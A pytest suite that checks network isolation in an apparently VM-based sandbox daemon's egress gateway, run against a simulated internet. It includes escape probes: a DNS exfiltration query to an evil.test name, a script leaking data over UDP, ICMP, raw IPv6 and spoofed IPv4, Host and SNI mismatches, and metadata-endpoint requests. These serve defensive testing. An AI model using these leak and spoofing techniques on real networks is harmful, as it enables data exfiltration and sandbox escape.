# SPDX-License-Identifier: Apache-2.0
"""Network isolation and the egress gateway, from inside real VMs (issue 5).

airlockd and airlock-egress run in the fake internet's host namespace
(fakenet.py): its only routes lead to the test hosts, so nothing here can
reach a real network. One `base` sandbox (curl, dig, python3) is shared by
the module; each test sets the policy it needs with PUT .../network, which is
itself under test (a runtime change applies to new connections).

What each test asserts is what a user would check: the guest's view (curl's
answer, dig's rcode) AND the fake internet's logs (did a packet, a DNS query
or a connection arrive anywhere it must not).
"""
import json
import os
import re
import shutil
import signal
import subprocess
import tempfile
import time

import pytest

import fakenet as fn
from conftest import AIRLOCK, Daemon, stdout_bytes, wait_for
from fakenet import fakenet  # noqa: F401  (the session fixture)

CURL = "curl -sS --max-time 20 --cacert /tmp/ca.pem"


@pytest.fixture(scope="module")
def netd(fakenet, tmp_path_factory):
    # Issue 17: HTTPS is intercepted by default, so the gateway verifies the
    # fake internet's servers: it trusts their CA (readable by nobody).
    cadir = tempfile.mkdtemp(prefix="airlock-net-ca-")
    os.chmod(cadir, 0o755)
    ca = os.path.join(cadir, "ca.pem")
    shutil.copy(fakenet.ca_cert, ca)
    os.chmod(ca, 0o644)
    d = Daemon(tmp_path_factory.mktemp("airlockd-net"), netns=fakenet.host_ns,
               extra_args=["--resolver", fakenet.resolver, "--egress-ca", ca,
                           # the fake internet's hosts sit on documentation addresses
                           "--egress-public-cidr", "192.0.2.0/24", "--egress-public-cidr", "203.0.113.0/24"]).start()
    yield d
    leftovers = d.cleanup()
    assert not leftovers, f"QEMU left running: {leftovers}"


@pytest.fixture(scope="module")
def sbx(netd, fakenet):
    sb = netd.api.create_ok(template="base", vcpus=1, memory_mib=512,
                            network={"allow": [fn.WWW_ALLOWED]})
    sid = sb["id"]
    # The guest trusts the Airlock CA (intercepted HTTPS, the default) and
    # the fake internet's (a "tls":"passthrough" policy's spliced HTTPS).
    airlock_ca = netd.api.request("GET", "/v1/ca").raw.decode()
    r = netd.api.request("PUT", f"/v1/sandboxes/{sid}/files?path=/tmp/ca.pem",
                         raw=(airlock_ca + fakenet.ca_pem).encode())
    assert r.status in (200, 201, 204), r
    yield sid
    netd.api.delete(sid)


@pytest.fixture
def api(netd, request):
    yield netd.api
    rep = getattr(request.node, "rep_call", None)
    if rep is not None and rep.failed:
        print(f"\n---- airlockd log ----\n{netd.log()}")
        egress = os.path.join(netd.state_dir, "egress.log")
        if os.path.exists(egress):
            print("---- egress log ----\n" + "\n".join(open(egress).read().splitlines()[-60:]))


def sh(api, sid, script, timeout=60):
    """Runs a shell script in the guest; (exit code, stdout text, stderr text)."""
    r = api.exec_ok(sid, ["sh", "-c", script], timeout_s=timeout)
    return r["exit_code"], stdout_bytes(r).decode(errors="replace"), r.get("stderr", "")


def set_policy(api, sid, allow=(), deny=()):
    r = api.request("PUT", f"/v1/sandboxes/{sid}/network", body={"allow": list(allow), "deny": list(deny)})
    assert r.status == 200, r
    return r.json


def curl(api, sid, args):
    """curl in the guest: (exit code, HTTP status or 0, body)."""
    code, out, _ = sh(api, sid, f"{CURL} -o /tmp/body -w '%{{http_code}}' {args}; echo \" rc=$?\"; "
                                "cat /tmp/body 2>/dev/null; rm -f /tmp/body")
    m = re.match(r"^(\d{3}) rc=(\d+)\n?", out)
    assert m, out
    return int(m.group(2)), int(m.group(1)), out[m.end():]


def events(api, sid, type_prefix="network."):
    r = api.request("GET", f"/v1/events?sandbox={sid}&type={type_prefix}")
    assert r.status == 200, r
    return [json.loads(line) for line in r.raw.decode().splitlines() if line.strip()]


def qnames(fakenet):
    return [q["qname"].rstrip(".").lower() for q in fakenet.dns_queries()]


# ------------------------------------------------------------------ allowed traffic

def test_allowed_host_over_http_and_https(api, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    fakenet.clear_logs()
    rc, status, body = curl(api, sbx, f"http://{fn.WWW_ALLOWED}/")
    assert (rc, status) == (0, 200) and body.startswith(f"hello from {fn.WWW_ALLOWED}"), body
    rc, status, body = curl(api, sbx, f"https://{fn.WWW_ALLOWED}/")
    assert (rc, status) == (0, 200) and body.startswith(f"hello from {fn.WWW_ALLOWED}"), body
    assert "scheme https" in body or "https" in body
    reqs = fakenet.http_requests()
    assert [r["host"].split(":")[0] for r in reqs] == [fn.WWW_ALLOWED, fn.WWW_ALLOWED], reqs


def test_100_mib_download_is_intact(api, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    code, out, _ = sh(api, sbx, f"{CURL} --max-time 240 https://{fn.WWW_ALLOWED}/big | sha256sum", timeout=300)
    assert code == 0, out
    assert out.split()[0] == fn.BIG_SHA256


# ------------------------------------------------------------------ refused traffic

def test_non_allowed_host_refused_over_http_https_and_direct_ip(api, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    fakenet.clear_logs()
    # By name: DNS says NXDOMAIN, curl cannot even connect.
    rc, _, _ = curl(api, sbx, f"http://{fn.WWW_OTHER}/")
    assert rc == 6  # could not resolve host
    # By name with the address forced: the gateway reads Host / SNI and refuses.
    rc, status, body = curl(api, sbx, f"--resolve {fn.WWW_OTHER}:80:{fn.OTHER_IP} http://{fn.WWW_OTHER}/")
    assert status == 403 and "egress" in body.lower(), (rc, status, body)
    rc, status, _ = curl(api, sbx, f"--resolve {fn.WWW_OTHER}:443:{fn.OTHER_IP} https://{fn.WWW_OTHER}/")
    assert rc != 0 and status == 0
    # By address only.
    rc, status, _ = curl(api, sbx, f"http://{fn.OTHER_IP}/")
    assert status == 403
    rc, status, _ = curl(api, sbx, f"-k https://{fn.OTHER_IP}/")
    assert rc != 0 and status == 0
    assert not fakenet.tcp_connections(fn.OTHER_IP)
    assert fn.WWW_OTHER not in qnames(fakenet)


def test_plain_http_with_other_host_to_allowed_address_is_refused(api, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    fakenet.clear_logs()
    rc, status, body = curl(api, sbx, f"-H 'Host: {fn.WWW_OTHER}' http://{fn.ALLOWED_IP}/")
    assert status == 403, (rc, status, body)
    assert not fakenet.http_requests()
    assert not fakenet.tcp_connections(fn.ALLOWED_IP)


def test_allowed_sni_to_other_address_reaches_only_the_allowed_host(api, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    fakenet.clear_logs()
    rc, status, body = curl(api, sbx, f"--resolve {fn.WWW_ALLOWED}:443:{fn.OTHER_IP} https://{fn.WWW_ALLOWED}/")
    assert (rc, status) == (0, 200), body
    assert body.startswith(f"hello from {fn.WWW_ALLOWED}")
    assert fn.ALLOWED_IP in body  # the server says which of its addresses answered
    assert not fakenet.tcp_connections(fn.OTHER_IP)


SPLIT_HELLO = r"""
import socket, ssl, sys, time
ctx = ssl.create_default_context(cafile="/tmp/ca.pem")
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname=sys.argv[1])
s = socket.create_connection((sys.argv[2], 443), timeout=20)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    obj.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
step = int(sys.argv[3])
for i in range(0, len(hello), step):  # one small TCP segment at a time
    s.sendall(hello[i:i + step])
    time.sleep(0.05)
print("hello bytes", len(hello), "segments", (len(hello) + step - 1) // step, file=sys.stderr)
def pump():
    data = out.read()
    if data:
        s.sendall(data)
while True:
    try:
        obj.do_handshake()
        break
    except ssl.SSLWantReadError:
        pump()
        data = s.recv(65536)
        if not data:
            sys.exit("closed during the handshake")
        inc.write(data)
pump()
obj.write(b"GET / HTTP/1.1\r\nHost: " + sys.argv[1].encode() + b"\r\nConnection: close\r\n\r\n")
pump()
resp = b""
while True:
    try:
        chunk = obj.read(65536)
        if not chunk:
            break
        resp += chunk
    except ssl.SSLWantReadError:
        data = s.recv(65536)
        if not data:
            break
        inc.write(data)
    except ssl.SSLZeroReturnError:
        break
sys.stdout.write(resp.decode(errors="replace"))
"""


def test_client_hello_split_over_many_segments_is_read_whole(api, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    api.request("PUT", f"/v1/sandboxes/{sbx}/files?path=/tmp/split.py", raw=SPLIT_HELLO.encode())
    code, out, err = sh(api, sbx, f"python3 /tmp/split.py {fn.WWW_ALLOWED} {fn.ALLOWED_IP} 40")
    assert code == 0, (out, err)
    assert "200 OK" in out and f"hello from {fn.WWW_ALLOWED}" in out


def test_wildcard_matches_whole_labels_only(api, sbx, fakenet):
    set_policy(api, sbx, allow=["*.example.test"])
    fakenet.clear_logs()
    rc, status, body = curl(api, sbx, "http://sub.example.test/")
    assert (rc, status) == (0, 200), body
    for name in ("example.test.evil.test", "evilexample.test", "example.test"):
        rc, _, _ = curl(api, sbx, f"http://{name}/")
        assert rc == 6, name  # NXDOMAIN from the gateway's DNS
        rc, status, _ = curl(api, sbx, f"--resolve {name}:80:{fn.ALLOWED_IP} http://{name}/")
        assert status == 403, name
        rc, status, _ = curl(api, sbx, f"-k --resolve {name}:443:{fn.ALLOWED_IP} https://{name}/")
        assert rc != 0 and status == 0, name
    assert not set(qnames(fakenet)) & {"example.test.evil.test", "evilexample.test", "example.test"}
    assert not fakenet.tcp_connections(fn.OTHER_IP)


def test_allowed_name_resolving_to_private_address_is_refused(api, sbx, fakenet):
    set_policy(api, sbx, allow=["*.allowed.test"])
    fakenet.clear_logs()
    for name, trap in ((fn.PRIVATE_NAME, fn.PRIVATE_IP), (fn.META_NAME, fn.META_IP), (fn.LOOP_NAME, "127.0.0.1")):
        rc, status, _ = curl(api, sbx, f"http://{name}/")
        assert status != 200, name
        # Even with the guest naming an allowed public address, the gateway
        # resolves the name itself and refuses what it gets.
        rc, status, _ = curl(api, sbx, f"--resolve {name}:80:{fn.ALLOWED_IP} http://{name}/")
        assert status == 403, name
        assert not fakenet.tcp_connections(trap), name
    assert not fakenet.tcp_connections(fn.ALLOWED_IP)


def test_metadata_host_and_other_sandboxes_unreachable(api, netd, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    fakenet.clear_logs()
    for target in (f"http://{fn.META_IP}/", f"http://{fn.META_IP}/latest/meta-data/",
                   f"http://{fn.HOST_IP}/", f"http://{fn.HOST_IP}:22/", "http://10.0.2.2:8080/",
                   "http://127.0.0.1:15001/"):
        rc, status, _ = curl(api, sbx, target)
        assert status != 200, target
    assert not fakenet.tcp_connections(fn.META_IP)
    # Another sandbox serving on its own (identical) address: nothing from
    # this one reaches it, there is no route between namespaces.
    other = api.create_ok(template="base", vcpus=1, memory_mib=512, network={"allow": ["*.allowed.test"]})
    try:
        sh(api, other["id"], "cd /tmp && (python3 -m http.server 8080 >/tmp/srv.log 2>&1 &) ; sleep 1")
        rc, status, _ = curl(api, sbx, "http://10.0.2.15:8080/")
        assert status != 200
        # A rule naming the address is outside the operator's network
        # ceiling (issue 17): refused, and the address stays unreachable.
        r = api.request("PUT", f"/v1/sandboxes/{sbx}/network", body={"allow": ["10.0.2.0/24:8080"]})
        assert r.status == 403 and "ceiling" in r.json["error"]["message"], r
        rc, status, _ = curl(api, sbx, "--max-time 5 http://10.0.2.15:8080/")
        assert status != 200
        _, log, _ = sh(api, other["id"], "cat /tmp/srv.log")
        assert "GET" not in log, log
    finally:
        api.delete(other["id"])


UDP_ICMP_V6 = r"""
import socket, struct, sys, time
# UDP to the echo host, on 443 (QUIC) and 9000, and to an outside resolver port
for port in (443, 9000, 123):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(1)
    u.sendto(b"leak-udp", ("203.0.113.7", port))
    try:
        print("udp answer", port, u.recvfrom(100))
    except OSError as e:
        print("udp", port, "no answer")
# ICMP echo
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
r.settimeout(1)
pkt = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"leak-icmp"
pkt = pkt[:2] + struct.pack("!H", csum(pkt)) + pkt[4:]
for i in range(3):
    r.sendto(pkt, ("203.0.113.7", 0))
try:
    print("icmp answer", r.recvfrom(100))
except OSError:
    print("icmp no answer")
# IPv6 straight onto the wire (the guest is root: it needs no address or route)
p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
p.bind(("eth0", 0))
mac = open("/sys/class/net/eth0/address").read().strip()
src = bytes.fromhex(mac.replace(":", ""))
payload = struct.pack("!HHHH", 40000, 9000, 8 + 7, 0) + b"leak-v6"
ip6 = struct.pack("!IHBB", 6 << 28, len(payload), 17, 64) + socket.inet_pton(socket.AF_INET6, "2001:db8::15") \
    + socket.inet_pton(socket.AF_INET6, "2001:db8::10")
for dst in (b"\xff" * 6, b"\x33\x33\x00\x00\x00\x01", bytes.fromhex("02a10c000202")):
    p.send(dst + src + b"\x86\xdd" + ip6 + payload)
# IPv4 with a spoofed source, to the echo host
p.send(bytes.fromhex("02a10c000202") + src + b"\x08\x00" + bytes.fromhex("450000230001000040115a12c0000263cb007107") +
       struct.pack("!HHHH", 40000, 9000, 15, 0) + b"spoofed")
print("sent")
"""


def test_udp_icmp_and_ipv6_get_nothing_out(api, sbx, fakenet):
    set_policy(api, sbx, allow=["*.allowed.test", "203.0.113.0/24:9000", "203.0.113.0/24:443"])
    before = api.request("GET", f"/v1/sandboxes/{sbx}/network").json["dropped"]
    icmp_before = fakenet.snmp("Icmp", "InEchos")
    fakenet.clear_logs()
    api.request("PUT", f"/v1/sandboxes/{sbx}/files?path=/tmp/leak.py", raw=UDP_ICMP_V6.encode())
    code, out, err = sh(api, sbx, "python3 /tmp/leak.py")
    assert code == 0 and "sent" in out, (out, err)
    assert "answer (" not in out, out
    assert not fakenet.udp_datagrams()
    assert fakenet.snmp("Icmp", "InEchos") == icmp_before
    after = api.request("GET", f"/v1/sandboxes/{sbx}/network").json["dropped"]
    # 3 UDP + 3 ICMP + 3 IPv6 + 1 spoofed at least (the guest's own noise may add more)
    assert after["packets"] >= before["packets"] + 10, (before, after)


def test_dns_for_non_allowed_names_is_nxdomain_without_upstream_query(api, sbx, fakenet):
    # The positive control is a name no other test resolves: the gateway caches
    # answers for their TTL, so a name resolved by an earlier test may never
    # reach the test DNS server here.
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED, fn.DNS_ONLY])
    fakenet.clear_logs()
    code, out, _ = sh(api, sbx, f"dig +short {fn.DNS_ONLY} A; dig +tcp +short {fn.DNS_ONLY} A")
    assert out.split() == [fn.ALLOWED_IP, fn.ALLOWED_IP], out
    for extra in ("", "+tcp", "@8.8.8.8", f"@{fn.DNS_IP}", "@1.1.1.1 +tcp"):
        code, out, _ = sh(api, sbx, f"dig {extra} +time=3 +tries=1 {fn.WWW_OTHER} A")
        assert "status: NXDOMAIN" in out, (extra, out)
    code, out, _ = sh(api, sbx, f"dig +time=3 +tries=1 {fn.WWW_ALLOWED} TXT")
    assert "status: REFUSED" in out, out
    code, out, _ = sh(api, sbx, "dig +time=3 +tries=1 exfil-7365637265742d64617461.evil.test A")
    assert "status: NXDOMAIN" in out
    names = qnames(fakenet)
    assert fn.WWW_OTHER not in names and not any("exfil" in n for n in names), names
    assert fn.DNS_ONLY in names, names


def test_host_port_rule_allows_exactly_that_port(api, sbx, fakenet):
    set_policy(api, sbx, allow=[f"{fn.ECHO_HOST}:9000"])
    fakenet.clear_logs()
    script = (f"ip=$(dig +short {fn.ECHO_HOST}); echo ip=$ip; "
              "python3 -c 'import socket,sys\n"
              "for port in (9000, 7):\n"
              "    try:\n"
              "        s = socket.create_connection((sys.argv[1], port), timeout=5); s.settimeout(5)\n"
              "        s.sendall(b\"ping\"); print(port, s.recv(100))\n"
              "    except OSError as e: print(port, \"failed\", type(e).__name__)\n' $ip")
    code, out, _ = sh(api, sbx, script)
    assert f"ip={fn.ECHO_IP}" in out, out
    assert "9000 b'ping'" in out, out
    assert "7 b'ping'" not in out, out
    assert fakenet.tcp_connections(fn.ECHO_IP, 9000)
    assert not fakenet.tcp_connections(fn.ECHO_IP, 7)
    # Nor does the rule open 80/443 of that host.
    rc, status, _ = curl(api, sbx, f"http://{fn.ECHO_HOST}/")
    assert status != 200


def test_runtime_policy_change_applies_to_new_connections(api, sbx, fakenet):
    set_policy(api, sbx, allow=[])
    rc, status, _ = curl(api, sbx, f"--resolve {fn.API_ALLOWED}:80:{fn.ALLOWED_IP} http://{fn.API_ALLOWED}/")
    assert status == 403
    net = set_policy(api, sbx, allow=[fn.API_ALLOWED])
    assert net["policy"] == {"allow": [fn.API_ALLOWED], "deny": []}
    rc, status, body = curl(api, sbx, f"http://{fn.API_ALLOWED}/")
    assert (rc, status) == (0, 200) and body.startswith(f"hello from {fn.API_ALLOWED}")
    set_policy(api, sbx, allow=["*.allowed.test"], deny=[fn.API_ALLOWED])
    rc, status, _ = curl(api, sbx, f"--resolve {fn.API_ALLOWED}:80:{fn.ALLOWED_IP} http://{fn.API_ALLOWED}/")
    assert status == 403  # deny wins
    assert api.get(sbx).json["network"] == {"allow": ["*.allowed.test"], "deny": [fn.API_ALLOWED]}
    bad = api.request("PUT", f"/v1/sandboxes/{sbx}/network", body={"allow": ["*example.com"]})
    assert bad.status == 400 and "*example.com" in bad.json["error"]["message"]
    assert api.get(sbx).json["network"]["deny"] == [fn.API_ALLOWED]  # unchanged


def test_decisions_are_audited_in_events_metrics_and_cli(api, netd, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    curl(api, sbx, f"https://{fn.WWW_ALLOWED}/")
    curl(api, sbx, f"http://{fn.OTHER_IP}/")
    deadline = time.monotonic() + 10
    while True:
        evs = events(api, sbx)
        allow = [e for e in evs if e["type"] == "network.allow" and e["data"].get("host") == fn.WWW_ALLOWED]
        close = [e for e in evs if e["type"] == "network.close" and e["data"].get("host") == fn.WWW_ALLOWED]
        deny = [e for e in evs if e["type"] == "network.deny" and e["data"].get("dst", "").startswith(fn.OTHER_IP)]
        if (allow and close and deny) or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert allow and close and deny, evs
    a = allow[-1]["data"]
    assert a["proto"] == "tls" and a["verdict"] == "allow" and a["rule"] == fn.WWW_ALLOWED
    assert a["addr"].startswith(fn.ALLOWED_IP)
    assert close[-1]["data"]["bytes_down"] > 0 and close[-1]["data"]["bytes_up"] > 0
    assert deny[-1]["data"]["verdict"] == "deny"
    metrics = api.request("GET", "/metrics").raw.decode()
    assert re.search(r'airlock_egress_decisions_total\{proto="tls",verdict="allow"\} [1-9]', metrics)
    assert re.search(r'airlock_egress_decisions_total\{proto="http",verdict="deny"\} [1-9]', metrics)
    assert re.search(r"airlock_egress_up 1", metrics)
    out = subprocess.run([AIRLOCK, "--socket", netd.socket, "logs", "--network", sbx],
                         capture_output=True, text=True, timeout=30)
    assert out.returncode == 0, out.stderr
    assert re.search(rf"allow\s+tls\s+\S+\s+host={re.escape(fn.WWW_ALLOWED)}", out.stdout), out.stdout
    assert "deny" in out.stdout


def egress_pid(netd):
    out = subprocess.run(["pgrep", "-P", str(netd.proc.pid), "-f", "airlock-egress"], capture_output=True,
                         text=True)
    pids = [int(p) for p in out.stdout.split()]
    return pids[0] if pids else None


def test_killing_the_gateway_cuts_the_network_until_it_is_back(api, netd, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    rc, status, _ = curl(api, sbx, f"http://{fn.WWW_ALLOWED}/")
    assert status == 200
    pid = egress_pid(netd)
    assert pid, "airlock-egress is not a child of airlockd"
    # It runs unprivileged, as its own uid, under its seccomp filter.
    status_text = open(f"/proc/{pid}/status").read()
    assert re.search(r"^Uid:\s+1499999999\s", status_text, re.M) and re.search(r"^CapEff:\s+0+$", status_text, re.M)
    assert re.search(r"^Seccomp:\s+2$", status_text, re.M), status_text
    os.kill(pid, signal.SIGSTOP)  # a gateway that hangs, then dies
    try:
        rc, status, _ = curl(api, sbx, f"--max-time 3 http://{fn.WWW_ALLOWED}/")
        assert status != 200
    finally:
        os.kill(pid, signal.SIGKILL)
    fakenet.clear_logs()
    wait_for(lambda: (egress_pid(netd) or pid) != pid, 20, "airlock-egress to be restarted")
    deadline = time.monotonic() + 20
    while True:
        rc, status, body = curl(api, sbx, f"--max-time 5 http://{fn.WWW_ALLOWED}/")
        if status == 200 or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert status == 200 and body.startswith(f"hello from {fn.WWW_ALLOWED}")
    assert re.search(r"airlock_egress_restarts_total [1-9]", api.request("GET", "/metrics").raw.decode())


def test_policy_validation_and_default_deny(api, netd, fakenet):
    for bad in ({"allow": ["*"]}, {"allow": ["*.com"]}, {"allow": ["a.*.example.com"]},
                {"allow": ["0x7f.0.0.1"]}, {"allow": ["203.0.113.1/24"]}, {"allow": "example.com"},
                {"allow": ["example.com"], "extra": []}, {"allow": ["example.com:0"]}, {"allow": [1]}):
        r = api.create(template="minimal", network=bad)
        assert r.status == 400, (bad, r)
    assert not [s for s in api.list() if s["state"] == "creating"]
    sb = api.create_ok(template="minimal")  # no policy: the daemon's default, deny all
    try:
        assert sb["network"] == {"allow": [], "deny": []}
        net = api.request("GET", f"/v1/sandboxes/{sb['id']}/network").json
        assert net["guest"]["address"] == "10.0.2.15/24" and net["guest"]["dns"] == "10.0.2.2"
    finally:
        api.delete(sb["id"])


def test_namespace_is_gone_after_delete(api, netd, fakenet):
    sb = api.create_ok(template="minimal", network={"allow": [fn.WWW_ALLOWED]})
    qemu = [p for p in netd.qemus() if sb["id"] in open(f"/proc/{p}/cmdline").read()]
    assert len(qemu) == 1
    ns = os.readlink(f"/proc/{qemu[0]}/ns/net")
    assert ns != os.readlink(f"/proc/{netd.proc.pid}/ns/net")  # the VMM is in its own namespace
    rules = subprocess.run(["nsenter", f"--net=/proc/{qemu[0]}/ns/net", "nft", "list", "ruleset"],
                           capture_output=True, text=True)
    assert "redirect to :15001" in rules.stdout and "policy drop" in rules.stdout, rules.stdout
    api.delete_ok(sb["id"])

    def holders():
        found = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    if os.readlink(f"/proc/{pid}/ns/net") == ns:
                        found.append(pid)
                except OSError:
                    pass
        return found
    wait_for(lambda: not holders(), 10, "no process left in the sandbox's namespace")


def test_no_rules_no_sandbox(fakenet, tmp_path):
    """Fail closed: when the namespace's rules cannot be installed, the
    sandbox does not start, and nothing of it is left running."""
    failing = tmp_path / "nft"
    failing.write_text("#!/bin/sh\necho 'nft: simulated failure' >&2\nexit 1\n")
    failing.chmod(0o755)
    old = os.environ.get("AIRLOCK_NFT")
    os.environ["AIRLOCK_NFT"] = str(failing)
    try:
        d = Daemon(tmp_path, netns=fakenet.host_ns, extra_args=["--resolver", fakenet.resolver]).start()
    finally:
        if old is None:
            del os.environ["AIRLOCK_NFT"]
        else:
            os.environ["AIRLOCK_NFT"] = old
    try:
        r = d.api.create(template="minimal", network={"allow": [fn.WWW_ALLOWED]})
        assert r.status >= 500, r
        msg = r.json["error"]["message"]
        assert "nftables" in msg and "simulated failure" in msg, msg
        assert not d.qemus()
        listed = d.api.list(all=True)
        assert [s["state"] for s in listed] == ["error"], listed
        # Nor does the pool of ready namespaces hold one: it says why and retries.
        wait_for(lambda: "network namespace pool: nftables" in d.log(), 10, "the pool's error in the log")
        m = d.api.request("GET", "/metrics").raw.decode()
        assert "\nairlock_netns_pool_ready 0\n" in m
    finally:
        d.cleanup()


def test_cli_network_verbs(api, netd):
    def cli(*args):
        return subprocess.run([AIRLOCK, "--socket", netd.socket, *args], capture_output=True, text=True, timeout=60)
    r = cli("create", "--template", "minimal", "--allow", fn.WWW_ALLOWED, "--allow", "echo.test:9000",
            "--deny", "bad.allowed.test", "--json")
    assert r.returncode == 0, r.stderr
    sid = json.loads(r.stdout)["id"]
    try:
        assert json.loads(r.stdout)["network"] == {"allow": [fn.WWW_ALLOWED, "echo.test:9000"],
                                                  "deny": ["bad.allowed.test"]}
        r = cli("network", sid)
        assert r.returncode == 0, r.stderr
        assert f"allow: {fn.WWW_ALLOWED} echo.test:9000" in r.stdout and "deny: bad.allowed.test" in r.stdout
        assert "guest: 10.0.2.15/24, gateway 10.0.2.2, dns 10.0.2.2" in r.stdout
        assert re.search(r"dropped: \d+ packets", r.stdout)
        r = cli("network", sid, "--allow", "*.example.test", "--json")
        assert r.returncode == 0 and json.loads(r.stdout)["policy"] == {"allow": ["*.example.test"], "deny": []}
        r = cli("network", sid, "--deny-all")
        assert r.returncode == 0 and "allow: (none)" in r.stdout
        r = cli("network", sid, "--allow", "*example.test")
        assert r.returncode != 0 and "*example.test" in r.stderr
        assert api.get(sid).json["network"] == {"allow": [], "deny": []}
        r = cli("create", "--allow", "a.*.example.test")
        assert r.returncode != 0 and "a.*.example.test" in r.stderr
    finally:
        api.delete(sid)


def test_daemon_restart_reattaches_the_network(api, netd, sbx, fakenet):
    set_policy(api, sbx, allow=[fn.WWW_ALLOWED])
    assert netd.stop() == 0
    netd.start()
    deadline = time.monotonic() + 20
    while True:
        rc, status, body = curl(api, sbx, f"--max-time 5 http://{fn.WWW_ALLOWED}/")
        if status == 200 or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert status == 200 and body.startswith(f"hello from {fn.WWW_ALLOWED}")
    # The policy survived too.
    rc, status, _ = curl(api, sbx, f"http://{fn.OTHER_IP}/")
    assert status == 403
    assert api.request("GET", f"/v1/sandboxes/{sbx}/network").json["policy"]["allow"] == [fn.WWW_ALLOWED]
